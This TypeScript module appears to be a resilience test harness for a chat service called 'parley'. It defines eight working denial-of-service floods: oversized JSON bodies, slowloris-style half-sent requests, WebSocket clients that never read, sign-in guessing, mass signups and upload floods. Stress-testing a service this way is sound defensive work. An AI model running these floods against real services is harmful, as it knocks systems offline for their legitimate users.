import { connect } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { chain } from "../bench/writes.ts";
import { send, type Somebody, type Target } from "./service.ts";

/** What one account, or some strangers, do for as long as the signal allows, to be a burden for everyone else. */
export interface Flood {
  name: string;
  run(target: Target, signal: AbortSignal): Promise<void>;
}

/** So many at a time, again and again. Refusals are what the attacker expects, so nothing is learned from them. */
async function again(atOnce: number, signal: AbortSignal, act: (worker: number) => Promise<unknown>): Promise<void> {
  const work = async (worker: number) => {
    while (!signal.aborted) {
      await act(worker).catch(() => undefined);
      await wait(10);
    }
  };
  await Promise.all(Array.from({ length: atOnce }, (_, worker) => work(worker)));
}

/** The account of a worker: there may be one or several. */
const one = ({ attackers }: Target, worker = 0): Somebody => attackers[worker % attackers.length]!;

const manyValues = (count: number) => `{"model":"parley-guide","messages":[${"{},".repeat(count)}{}]}`;

export const floods: readonly Flood[] = [
  {
    name: "bodies of ten million small values",
    async run(target, signal) {
      const body = manyValues(10_000_000);
      const paths = ["/api/chat/completions", "/api/v1/chats/new", "/api/v1/messages", "/ollama/api/chat"];
      await again(6, signal, (worker) =>
        send(target.parley.url, "POST", paths[worker % paths.length]!, {
          token: one(target, worker).token,
          body,
          signal,
        }),
      );
    },
  },
  {
    name: "invalid bodies just below the limit of values",
    async run(target, signal) {
      const body = manyValues(19_000);
      await again(6, signal, (worker) =>
        send(target.parley.url, "POST", "/api/chat/completions", { token: one(target, worker).token, body, signal }),
      );
    },
  },
  {
    name: "a chat of 10,000 messages saved again and again",
    async run(target, signal) {
      const { url } = target.parley;
      const chat = chain(10_000);
      await again(Math.max(2, target.attackers.length), signal, async (worker) => {
        const { token } = one(target, worker);
        const made = await send(url, "POST", "/api/v1/chats/new", { token, json: { chat: chain(2) }, signal });
        const { id } = JSON.parse(made.text) as { id: string };
        while (!signal.aborted) await send(url, "POST", `/api/v1/chats/${id}`, { token, json: { chat }, signal });
      });
    },
  },
  {
    name: "sockets that say hello again and again and do not read",
    async run(target, signal) {
      const { hostname, port } = new URL(target.parley.url);
      await again(20, signal, async (worker) => {
        const { token } = one(target, worker);
        const socket = connect({ host: hostname, port: Number(port) });
        socket.on("error", () => undefined);
        socket.pause();
        socket.write(handshake(hostname, token));
        for (let frame = 0; frame < 200 && !signal.aborted; frame++) {
          socket.write(textFrame('{"kind":"hello","since":null}'));
          await wait(5);
        }
        socket.destroy();
      });
    },
  },
  {
    name: "passwords guessed at invented addresses",
    async run(target, signal) {
      let count = 0;
      await again(40, signal, async () => {
        const json = { email: `nobody${count++}@elsewhere.example`, password: "guess guess guess" };
        await send(target.parley.url, "POST", "/api/v1/auths/signin", { json, signal });
      });
    },
  },
  {
    name: "accounts invented one after the other",
    async run(target, signal) {
      let count = 0;
      await again(20, signal, async () => {
        const name = `invented${count++}`;
        const json = { name, email: `${name}@elsewhere.example`, password: "guess guess guess" };
        await send(target.parley.url, "POST", "/api/v1/auths/signup", { json, signal });
      });
    },
  },
  {
    name: "connections that send half a head, and half a body",
    async run(target, signal) {
      const { hostname, port } = new URL(target.parley.url);
      const sockets = Array.from({ length: 400 }, (_, at) => {
        const socket = connect({ host: hostname, port: Number(port) });
        socket.on("error", () => undefined);
        const head = `POST /api/v1/auths/signin HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\n`;
        socket.write(at % 2 === 0 ? head : `${head}Content-Length: 900000\r\n\r\n{`);
        return socket;
      });
      await new Promise<void>((resolve) => signal.addEventListener("abort", () => resolve(), { once: true }));
      for (const socket of sockets) socket.destroy();
    },
  },
  {
    name: "300 uploads, again and again",
    async run(target, signal) {
      const text = "The harbour opens at nine. ".repeat(800);
      await again(300, signal, async (worker) => {
        const form = new FormData();
        form.append("file", new Blob([`${worker} ${text}`]), `tide-${worker}.txt`);
        const headers = { authorization: `Bearer ${one(target, worker).token}` };
        await fetch(`${target.parley.url}/api/v1/files/`, { method: "POST", headers, body: form, signal });
      });
    },
  },
];

function handshake(host: string, token: string): string {
  const key = Buffer.from(crypto.getRandomValues(new Uint8Array(16))).toString("base64");
  return [
    "GET /api/v1/events HTTP/1.1",
    `Host: ${host}`,
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    `Sec-WebSocket-Key: ${key}`,
    `Authorization: Bearer ${token}`,
    "\r\n",
  ].join("\r\n");
}

/** A masked text frame of less than 126 bytes, with a mask of zeros. */
function textFrame(text: string): Buffer {
  const bytes = Buffer.from(text);
  return Buffer.concat([Buffer.from([0x81, 0x80 | bytes.length, 0, 0, 0, 0]), bytes]);
}
